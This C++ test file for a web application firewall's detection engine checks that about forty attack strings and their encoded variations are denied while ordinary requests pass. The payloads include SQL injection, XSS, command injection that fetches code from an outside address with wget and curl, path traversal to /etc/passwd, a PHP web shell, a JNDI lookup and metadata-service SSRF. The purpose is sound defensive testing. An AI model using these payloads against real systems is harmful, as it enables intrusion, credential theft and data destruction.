// Attacks of our own, every variation of them, and ordinary requests changed in ways that say the same.
#include "tests/support/variations/variations.h"

#include <map>
#include <string>
#include <vector>

#include <fmt/format.h>

#include "tests/detect/quality/engine_under_test.h"
#include "tests/support/ordinary/ordinary_values.h"
#include "tests/support/variations/benign.h"
#include "tests/support/variations/codings.h"

namespace wafd::detect {
namespace {

using variations::Attack;
using variations::Variation;

struct Row {
  AttackType type;
  const char* text;
};

constexpr Row kAttacks[] = {
    {AttackType::kSqli, "' or 1=1-- "},
    {AttackType::kSqli, "' union select user,password from accounts-- "},
    {AttackType::kSqli, "7 union select 1,2,table_name from information_schema.tables"},
    {AttackType::kSqli, "7 and sleep(5)"},
    {AttackType::kSqli, "'; drop table orders-- "},
    {AttackType::kSqli, "7 or 4=4"},
    {AttackType::kSqli, "7 and extractvalue(1,concat(0x7e,version()))"},
    {AttackType::kSqli, "'; waitfor delay '0:0:5'-- "},
    {AttackType::kSqli, "7; select pg_sleep(5)"},
    {AttackType::kSqli, "' and 1=(select count(*) from all_tables)-- "},
    {AttackType::kXss, "<script>alert(1)</script>"},
    {AttackType::kXss, "<img src=x onerror=alert(1)>"},
    {AttackType::kXss, "<svg onload=alert(document.domain)>"},
    {AttackType::kXss, "<a href=\"javascript:alert(1)\">a</a>"},
    {AttackType::kXss, "<iframe src=javascript:alert(1)>"},
    {AttackType::kXss, "<body onpageshow=alert(1)>"},
    {AttackType::kXss, "<details open ontoggle=alert(1)>"},
    {AttackType::kCmdInjection, "7; cat /etc/passwd"},
    {AttackType::kCmdInjection, "7 | id"},
    {AttackType::kCmdInjection, "a.png;wget http://203.0.113.9/x -O /tmp/x"},
    {AttackType::kCmdInjection, "$(curl http://203.0.113.9/)"},
    {AttackType::kCmdInjection, "`whoami`"},
    {AttackType::kCmdInjection, "7 && uname -a"},
    {AttackType::kPathTraversal, "../../../../etc/passwd"},
    {AttackType::kPathTraversal, "../../../WEB-INF/web.xml"},
    {AttackType::kPathTraversal, "/etc/passwd"},
    {AttackType::kFileInclusion, "php://filter/convert.base64-encode/resource=index"},
    {AttackType::kFileInclusion, "expect://id"},
    {AttackType::kCodeInjection, "<?php system($_GET['c']); ?>"},
    {AttackType::kCodeInjection, "<?php echo shell_exec('id'); ?>"},
    {AttackType::kExpressionInjection, "${jndi:ldap://203.0.113.9/a}"},
    {AttackType::kExpressionInjection, "${T(java.lang.Runtime).getRuntime().exec('id')}"},
    {AttackType::kExpressionInjection, "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}"},
    {AttackType::kSsti, "{{''.__class__.__mro__[1].__subclasses__()}}"},
    {AttackType::kSsti, "{{ self.__class__.__init__.__globals__ }}"},
    {AttackType::kSsrf, "http://169.254.169.254/latest/meta-data/"},
    {AttackType::kSsrf, "gopher://127.0.0.1:6379/_INFO"},
    {AttackType::kXpathInjection, "' or count(//user)=1 or 'a'='b"},
    {AttackType::kLdapInjection, "*)(uid=*))(|(uid=*"},
};

TEST(Variations, OfAnAttackAreAttacks) {
  std::map<std::string, std::size_t> tried;
  std::size_t lost = 0;
  std::string varied;
  for (const Row& row : kAttacks) {
    const Attack attack = variations::attack_of(row.type, row.text);
    engine().inspect(attack.request.bytes);
    ASSERT_TRUE(engine().denies(Sensitivity::kBalanced)) << row.text;
    for (const Variation& variation : variations::all_variations()) {
      if (!variations::vary(variation, attack, varied)) continue;
      ++tried[variation.name];
      engine().inspect(varied);
      if (engine().denies(Sensitivity::kBalanced)) continue;
      ++lost;
      ADD_FAILURE() << variation.name << " (" << variation.holds << ") of " << row.text << ": "
                    << engine().why();
    }
  }
  EXPECT_EQ(lost, 0u);
  std::size_t sum = 0;
  for (const auto& [name, count] : tried) sum += count;
  fmt::print("{} variations of {} attacks by {} rules\n", sum, std::size(kAttacks), tried.size());
  EXPECT_GE(sum, 1500u);
  EXPECT_GE(tried.size(), 150u);
}

// The bodies and queries that ordinary pages send, from the ordinary values.
std::vector<std::string> ordinary_requests() {
  std::vector<std::string> out;
  const std::vector<ordinary::Value> values = ordinary::ordinary_values(900, 7);
  for (std::size_t i = 0; i + 2 < values.size(); i += 3) {
    const std::string a = variations::percent_encode(values[i].text, "._-~");
    const std::string b = variations::percent_encode(values[i + 1].text, "._-~");
    out.push_back(variations::make_request(fmt::format("/shop/items?page={}&q={}&sort={}", i, a, b), "", ""));
    out.push_back(variations::make_request("/shop/note?from=" + a, "application/x-www-form-urlencoded",
                                           fmt::format("id={}&title={}&text={}", i, b, a)));
    out.push_back(variations::make_request(
        "/api/note", "application/json",
        fmt::format(R"({{"id":{},"title":"{}","tags":["{}","x"],"meta":{{"draft":false}}}})", i,
                    variations::json_escape(values[i].text), variations::json_escape(values[i + 2].text))));
  }
  return out;
}

TEST(Variations, OfAnOrdinaryRequestAreOrdinary) {
  std::map<std::string, std::size_t> tried;
  std::string changed;
  for (const std::string& bytes : ordinary_requests()) {
    engine().inspect(bytes);
    const bool balanced = engine().denies(Sensitivity::kBalanced);
    const bool strict = engine().denies(Sensitivity::kStrict);
    const auto request = variations::read_request(bytes);
    for (const auto& one : variations::benign_changes()) {
      if (!one.change(request, changed)) continue;
      ++tried[one.name];
      engine().inspect(changed);
      EXPECT_TRUE(balanced || !engine().denies(Sensitivity::kBalanced)) << one.name << "\n"
                                                                        << changed << engine().why();
      EXPECT_TRUE(strict || !engine().denies(Sensitivity::kStrict)) << one.name << "\n"
                                                                    << changed << engine().why();
    }
  }
  EXPECT_EQ(tried.size(), variations::benign_changes().size()) << "every change applied to something";
}

// Requests that were judged before change nothing: a value that was found together with another is an attack
// by itself, too.
TEST(Variations, AVerdictDoesNotDependOnTheRequestsBefore) {
  for (const Row& row : kAttacks) {
    const std::string raw = variations::percent_encode(row.text, "._-~");
    const std::string both = variations::make_request("/?a=" + raw + "&b=" + raw + "&c=" + raw, "", "");
    engine().inspect(both);
    ASSERT_TRUE(engine().denies(Sensitivity::kBalanced)) << row.text;
    for (const char* name : {"a", "b", "c"}) {
      engine().inspect(variations::make_request("/?" + std::string(name) + "=" + raw, "", ""));
      EXPECT_TRUE(engine().denies(Sensitivity::kBalanced)) << row.text << " in " << name;
    }
    // As the name of a form's only field, then as a body that is no form.
    engine().inspect(variations::make_request("/", "application/x-www-form-urlencoded", raw));
    const bool form = engine().denies(Sensitivity::kStrict);
    engine().inspect(variations::make_request("/", "text/plain", raw));
    EXPECT_EQ(engine().denies(Sensitivity::kStrict), form) << row.text;
  }
}

// Strict denies what balanced denies, balanced what low denies.
TEST(Variations, AHigherSensitivityDeniesMore) {
  std::size_t denied[3] = {0, 0, 0};
  std::string varied;
  for (const Row& row : kAttacks) {
    const Attack attack = variations::attack_of(row.type, row.text);
    for (const Variation& variation : variations::all_variations()) {
      if (!variations::vary(variation, attack, varied)) continue;
      // Cut and spliced too: half an attack is where the levels differ.
      for (const std::size_t size : {varied.size(), varied.size() * 3 / 4, varied.size() / 2}) {
        engine().inspect(std::string_view(varied).substr(0, size));
        const bool low = engine().denies(Sensitivity::kLow);
        const bool balanced = engine().denies(Sensitivity::kBalanced);
        const bool strict = engine().denies(Sensitivity::kStrict);
        ASSERT_TRUE(!low || balanced) << varied;
        ASSERT_TRUE(!balanced || strict) << varied;
        denied[0] += low ? 1 : 0;
        denied[1] += balanced ? 1 : 0;
        denied[2] += strict ? 1 : 0;
      }
    }
  }
  EXPECT_LE(denied[0], denied[1]);
  EXPECT_LT(denied[1], denied[2]);
}

// A header that carries no finding says nothing: without all of those, the same is found.
TEST(Variations, HeadersWithoutFindingsDecideNothing) {
  std::size_t compared = 0;
  const auto compare = [&](const std::string& bytes) {
    engine().inspect(bytes);
    const bool before[] = {engine().denies(Sensitivity::kLow), engine().denies(Sensitivity::kBalanced),
                           engine().denies(Sensitivity::kStrict)};
    const std::string stripped = variations::without_idle_headers(bytes, engine().verdict());
    EXPECT_LT(stripped.size(), bytes.size());
    engine().inspect(stripped);
    EXPECT_EQ(engine().denies(Sensitivity::kLow), before[0]) << bytes;
    EXPECT_EQ(engine().denies(Sensitivity::kBalanced), before[1]) << bytes;
    EXPECT_EQ(engine().denies(Sensitivity::kStrict), before[2]) << bytes;
    ++compared;
  };
  std::string varied;
  for (const Row& row : kAttacks) {
    const Attack attack = variations::attack_of(row.type, row.text);
    for (const Variation& variation : variations::all_variations()) {
      if (variations::vary(variation, attack, varied)) compare(varied);
    }
  }
  for (const std::string& bytes : ordinary_requests()) compare(bytes);
  // A form whose only field has no value, which without its type is text.
  for (const Row& row : kAttacks) {
    std::string raw = variations::percent_encode(row.text, "._-~");
    for (std::size_t at = raw.find("%20"); at != std::string::npos; at = raw.find("%20"))
      raw.replace(at, 3, "+");
    compare(variations::make_request("/", "application/x-www-form-urlencoded", raw));
  }
  EXPECT_GE(compared, 2000u);
}

}  // namespace
}  // namespace wafd::detect
